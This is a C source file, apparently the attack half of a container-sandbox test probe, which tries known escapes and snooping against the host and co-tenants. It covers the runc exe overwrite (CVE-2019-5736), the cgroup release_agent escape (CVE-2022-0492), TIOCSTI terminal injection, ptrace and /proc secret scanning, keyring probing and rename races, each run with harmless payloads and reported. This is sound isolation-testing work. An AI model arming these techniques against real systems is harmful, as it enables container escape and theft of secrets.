// What a hostile container tries against whoever starts it or shares something with it.
#define _GNU_SOURCE
#include "probe.h"

#include <dirent.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

/// Exchanges each pair of names for ever, as fast as the kernel can, with a rest of some milliseconds now and then, in
/// which the names are as they were or exchanged: on a machine where the victim is slow, it would never get through.
static int exchange(int count, char **names) {
    printf("ready\n");
    for (unsigned turn = 1;; turn++) {
        for (int i = 0; i + 1 < count; i += 2)
            if (syscall(SYS_renameat2, AT_FDCWD, names[i], AT_FDCWD, names[i + 1], 2 /* RENAME_EXCHANGE */) != 0)
                return printf("exchange=%s\n", error_name(errno)), 1;
        // An odd number, so that both are met.
        if (turn % 999 == 0) usleep(turn / 999 % 8 * 1000);
    }
}

/// Says so when one of the needles is in the bytes.
static void search(const char *what, const char *bytes, size_t count, int needles, char **needle) {
    static int found;
    // More would fill the pipe of one who reads at the end.
    for (int i = 0; i < needles && found < 100; i++)
        if (memmem(bytes, count, needle[i], strlen(needle[i]))) found++, printf("found %s %s\n", what, needle[i]);
}

static void look_into_file(const char *pid, const char *name, int needles, char **needle) {
    static char bytes[1 << 18];
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    ssize_t count = read(fd, bytes, sizeof bytes);
    close(fd);
    if (count > 0) search(name, bytes, (size_t)count, needles, needle);
}

static void look_into_link(const char *path, int needles, char **needle) {
    char target[4096];
    ssize_t count = readlink(path, target, sizeof target);
    if (count > 0) search(path, target, (size_t)count, needles, needle);
}

static void look_into_descriptors(const char *pid, int needles, char **needle) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *directory = opendir(path);
    if (!directory) return;
    struct dirent *entry;
    while ((entry = readdir(directory))) {
        snprintf(path, sizeof path, "/proc/%s/fd/%.200s", pid, entry->d_name);
        look_into_link(path, needles, needle);
    }
    closedir(directory);
}

/// Puts the first byte back in its place: harmless, and only possible for who could also put another there.
static int rewrite(const char *path) {
    char byte;
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) return 0;
    int written = pread(fd, &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1;
    close(fd);
    return written;
}

/// Holds a newcomer's program until nobody executes it any more, and then writes to it (CVE-2019-5736).
static void overwrite(const char *pid) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0) return;
    char program[4096];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    ssize_t count = readlink(path, program, sizeof program - 1);
    program[count > 0 ? count : 0] = 0;
    // A container's own program is its own, and where it lies it is no file of the host's.
    int foreign = strncmp(program, "/bin/", 5) != 0;
    for (int i = 0; foreign && i < 200; i++) {
        if (rewrite(path)) {
            printf("found writable %s\n", program);
            break;
        }
        usleep(100);
    }
    close(held);
}

/// A process that can be traced before its exec shows the memory of whoever started it.
static void trace(const char *pid, int needles, char **needle) {
    int status;
    if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) != 0) return;
    ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
    if (waitpid(atoi(pid), &status, __WALL) < 0 || !WIFSTOPPED(status)) return;
    look_into_file(pid, "maps", needles, needle);
    look_into_file(pid, "environ", needles, needle);
    look_into_file(pid, "status", needles, needle);
    look_into_descriptors(pid, needles, needle);
    ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
}

/// Process 1 of a namespace that others join: looks into every other process all the time, at a newcomer long before
/// it has become what it will be. `mode` is `read`, `trace` or `write`.
static int stalk(int count, char **arguments) {
    const char *mode = arguments[0];
    printf("ready\n");
    while (1) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;
        if (!directory) return 1;
        while ((entry = readdir(directory))) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
            if (mode[0] == 't') trace(entry->d_name, count - 1, arguments + 1);
            if (mode[0] == 'w') overwrite(entry->d_name);
            if (mode[0] != 'r') continue;
            for (int i = 0; i < 20; i++) {
                look_into_file(entry->d_name, "environ", count - 1, arguments + 1);
                look_into_file(entry->d_name, "maps", count - 1, arguments + 1);
                look_into_file(entry->d_name, "status", count - 1, arguments + 1);
                look_into_descriptors(entry->d_name, count - 1, arguments + 1);
            }
        }
        closedir(directory);
    }
}

static long keyctl(long operation, long a, const char *b, const char *c, long d) {
    return syscall(SYS_keyctl, operation, a, b, c, d);
}

/// Becomes a program whose session keyring, a new one or what it was, holds a key of that name; PROBE_KEY is the
/// key's number.
static int with_key(int is_new, int count, char **arguments) {
    char number[32];
    if (count < 2 || (is_new && keyctl(1, 0, NULL, NULL, 0) < 0)) return 2;
    long key = syscall(SYS_add_key, "user", arguments[0], "secret", 6, -3);
    if (key < 0) return perror("add_key"), 2;
    snprintf(number, sizeof number, "%ld", key);
    setenv("PROBE_KEY", number, 1);
    execvp(arguments[1], arguments + 1);
    return perror(arguments[1]), 2;
}

/// Looks for a key by name in what is ours, and by the number in PROBE_KEY.
static int find_key(const char *name) {
    char text[256] = "";
    const char *number = getenv("PROBE_KEY");
    errno = 0;
    printf("search=%s\n", keyctl(10, -3, "user", name, 0) >= 0 ? "ok" : error_name(errno));
    printf("request=%s\n", syscall(SYS_request_key, "user", name, NULL, 0) >= 0 ? "ok" : error_name(errno));
    if (number) printf("read=%s\n", keyctl(11, atol(number), text, (const char *)sizeof text, 0) >= 0 ? text : error_name(errno));
    if (number) printf("link=%s\n", keyctl(8, atol(number), (const char *)-3L, NULL, 0) >= 0 ? "ok" : error_name(errno));
    memset(text, 0, sizeof text);
    if (keyctl(6, -3, text, (const char *)sizeof text - 1, 0) >= 0) printf("session=%s\n", text);
    printf("serial=%ld\n", keyctl(0, -3, NULL, NULL, 0));
    return 0;
}

static void push_into(const char *name, int fd, const char *text) {
    int error = 0;
    for (const char *c = text; *c && !error; c++)
        if (ioctl(fd, TIOCSTI, c) != 0) error = errno;
    printf("push.%s=%s\n", name, error_name(error));
    // The console's paste: subcode 3 pastes the selection, 2 would make one.
    char paste = 3;
    printf("paste.%s=%s\n", name, ioctl(fd, TIOCLINUX, &paste) == 0 ? "ok" : error_name(errno));
}

/// Types into every terminal that it can get at, and says for each what came of it.
static int push(const char *text) {
    static const char *const names[] = {"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/pts/2"};
    for (int fd = 0; fd < 3; fd++) {
        char name[16];
        snprintf(name, sizeof name, "%d", fd);
        push_into(name, fd, text);
    }
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_RDWR | O_NOCTTY | O_CLOEXEC);
        if (fd < 0) continue;
        push_into(names[i], fd, text);
        // Taken as our own first, if it lets itself be.
        ioctl(fd, TIOCSCTTY, 1);
        push_into(names[i], fd, text);
        close(fd);
    }
    return 0;
}

/// Names all files below a directory that are made for writing and open for it: root opens others too, in vain. No link
/// is followed.
static void list_writable(const char *path, int is_proc) {
    DIR *directory = opendir(path);
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        char name[4096];
        struct stat status;
        if (entry->d_name[0] == '.' || (is_proc && entry->d_name[0] >= '0' && entry->d_name[0] <= '9')) continue;
        snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
        if (lstat(name, &status) != 0) continue;
        if (S_ISDIR(status.st_mode)) list_writable(name, 0);
        if (!S_ISREG(status.st_mode) || !(status.st_mode & 0222)) continue;
        int fd = open(name, O_WRONLY | O_CLOEXEC | O_NONBLOCK | O_NOFOLLOW);
        if (fd >= 0) printf("writable=%s\n", name);
        if (fd >= 0) close(fd);
    }
    if (directory) closedir(directory);
}

static void report(const char *what, const char *where, long result) {
    printf("%s.%s=%s\n", what, where, error_name(result < 0 ? errno : 0));
}

/// The control files of one hierarchy: release_agent runs a program on the host (CVE-2022-0492).
static void attack_hierarchy(const char *path) {
    char name[4096];
    struct stat status;
    snprintf(name, sizeof name, "%s/release_agent", path);
    int fd = open(name, O_WRONLY | O_CLOEXEC);
    report("agent", path, fd < 0 ? fd : write(fd, "/bin/true", 9));
    if (fd >= 0) close(fd);
    snprintf(name, sizeof name, "%s/notify_on_release", path);
    if (stat(name, &status) == 0) report("notify", path, open(name, O_WRONLY | O_CLOEXEC));
    snprintf(name, sizeof name, "%s/attack", path);
    report("mkdir", path, mkdir(name, 0755));
    rmdir(name);
}

static void attack_hierarchies(const char *parent) {
    DIR *directory = opendir(parent);
    struct dirent *entry;
    attack_hierarchy(parent);
    while (directory && (entry = readdir(directory))) {
        char name[4096];
        struct stat status;
        snprintf(name, sizeof name, "%s/%s", parent, entry->d_name);
        if (entry->d_name[0] == '.' || lstat(name, &status) != 0 || !S_ISDIR(status.st_mode)) continue;
        attack_hierarchy(name);
    }
    if (directory) closedir(directory);
}

static void mount_hierarchies(const char *who) {
    static const char *const options[][2] = {
        {"memory", "memory"}, {"rdma", "rdma"}, {"pids", "pids"}, {"named", "none,name=attack"}};
    char name[64];
    mkdir("/attack", 0755);
    for (size_t i = 0; i < sizeof options / sizeof *options; i++) {
        snprintf(name, sizeof name, "%s.%s", who, options[i][0]);
        long result = mount("cgroup", "/attack", "cgroup", 0, options[i][1]);
        report("mount", name, result);
        if (result == 0) attack_hierarchy("/attack");
        if (result == 0) umount2("/attack", MNT_DETACH);
    }
    snprintf(name, sizeof name, "%s.unified", who);
    report("mount", name, mount("cgroup2", "/attack", "cgroup2", 0, NULL));
}

/// The ways out through control groups: what is mounted, a mount of one's own, and that in a user namespace.
static int escape(void) {
    mount_hierarchies("own");
    attack_hierarchies("/sys/fs/cgroup");
    report("remount", "cgroup", mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL));
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        long result = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
        report("unshare", "user", result);
        if (result == 0) mount_hierarchies("user");
        fflush(stdout);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    return 0;
}

int attack(int argc, char **argv) {
    const char *verb = argv[0];
    if (!strcmp(verb, "exchange")) return exchange(argc - 1, argv + 1);
    if (!strcmp(verb, "stalk") && argc > 1) return stalk(argc - 1, argv + 1);
    if (!strcmp(verb, "withkey")) return with_key(1, argc - 1, argv + 1);
    if (!strcmp(verb, "addkey")) return with_key(0, argc - 1, argv + 1);
    if (!strcmp(verb, "findkey") && argc > 1) return find_key(argv[1]), argc > 2 ? pause() : 0;
    if (!strcmp(verb, "push") && argc > 1) return push(argv[1]);
    if (!strcmp(verb, "writable")) return list_writable("/proc", 1), list_writable("/sys", 0), 0;
    if (!strcmp(verb, "escape")) return escape();
    fprintf(stderr, "probe: unknown act %s\n", verb);
    return 2;
}
